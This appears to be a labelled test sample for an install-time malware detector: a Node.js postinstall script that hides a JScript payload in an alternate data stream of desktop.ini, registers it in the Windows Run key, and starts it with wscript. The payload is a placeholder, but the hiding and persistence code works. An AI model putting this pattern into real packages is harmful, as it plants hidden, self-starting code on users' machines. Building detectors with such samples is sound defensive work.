// expect: malicious
// when: install
// source: blind set 14 (an attrib wrapper's postinstall; Astaroth's ADS payloads): a JScript loop is written to
// a named stream of a hidden desktop.ini, registered in the Run key with wscript and started
'use strict';
const fs = require('fs');
const path = require('path');
const { execFileSync, spawn } = require('child_process');

const host = path.join(process.env.APPDATA || '', 'Microsoft', 'Windows', 'Themes', 'desktop.ini');
const stream = host + ':Zone.Sync.js';
fs.writeFileSync(stream, Buffer.from('dmFyIHg9MTs=', 'base64'));
const run = 'wscript.exe //B //E:jscript "' + stream + '"';
execFileSync('reg.exe', ['add', 'HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run', '/v', 'ThemeSync', '/d', run, '/f']);
spawn('wscript.exe', ['//B', '//E:jscript', stream], { detached: true, stdio: 'ignore' }).unref();
